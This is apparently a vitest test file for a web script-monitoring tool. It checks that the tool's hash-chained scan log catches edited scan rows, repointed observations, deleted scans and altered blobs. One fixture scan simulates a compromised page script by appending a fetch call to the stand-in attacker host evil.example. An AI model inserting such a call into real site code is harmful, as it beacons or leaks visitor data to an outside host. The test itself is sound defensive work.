// Store: the scan log is tamper-evident; editing a scan, an observation or a blob is found and named.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'vitest';
import { planScan } from '../../src/plan/plan-scan.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
import { tempProject } from '../fixtures/cli.js';
import { rawDb } from '../fixtures/raw-db.js';

function scanned(): Store {
  const store = openStore(join(tempProject('sw-chain-'), 'sw.db'));
  const scan = (capture = healthyShop()) => store.scans.applyPlan(planScan(capture, store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 }));
  scan();
  store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
  scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]));
  scan(healthyShop({ outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'slow' } }));
  scan();
  return store;
}

describe('scan chain', () => {
  it('verifies an untouched store, and alert decisions do not break it', () => {
    const store = scanned();
    const alert = store.alerts.list({ status: 'open' })[0]!;
    store.alerts.decide([alert.id], 'approved', { by: 'bob', note: 'ok', at: '2026-11-22T10:00:00.000Z' });
    const report = store.scans.verify();
    assert.equal(report.ok, true, JSON.stringify(report.firstBreak));
    assert.equal(report.scans, 4);
    assert.ok(report.blobs > 5);
    store.close();
  });

  it('names the first scan whose row was edited', () => {
    const store = scanned();
    rawDb(store).prepare('UPDATE scans SET http_status = 302 WHERE id = 2').run();
    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #2 .* does not match its hash/);
    store.close();
  });

  it('finds an observation pointed at other content, and a removed scan', () => {
    const store = scanned();
    rawDb(store).prepare('UPDATE observations SET blob_id = (SELECT MAX(id) FROM blobs) WHERE scan_id = 4 AND script_id = (SELECT MIN(script_id) FROM observations WHERE scan_id = 4 AND blob_id IS NOT NULL)').run();
    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #4 /);
    store.close();
    const other = scanned();
    rawDb(other).prepare('DELETE FROM observations WHERE scan_id = 2').run();
    rawDb(other).prepare('DELETE FROM scans WHERE id = 2').run();
    assert.match(other.scans.verify().firstBreak?.reason ?? '', /^scan #3 .* does not follow the scan before it/);
    other.close();
  });

  it('names a blob with a flipped byte', () => {
    const store = scanned();
    const blob = rawDb(store).prepare("SELECT id, sha256, data FROM blobs WHERE encoding = 'raw' ORDER BY id LIMIT 1").get() as { id: number; sha256: string; data: Buffer };
    const data = Buffer.from(blob.data);
    data[0] = data[0]! ^ 0x01;
    rawDb(store).prepare('UPDATE blobs SET data = ? WHERE id = ?').run(data, blob.id);
    const report = store.scans.verify();
    assert.equal(report.ok, false);
    assert.equal(report.firstBreak?.kind, 'blob');
    assert.equal(report.firstBreak?.sha256, blob.sha256);
    assert.match(report.firstBreak!.reason, /does not match its SHA-256/);
    store.close();
  });
});
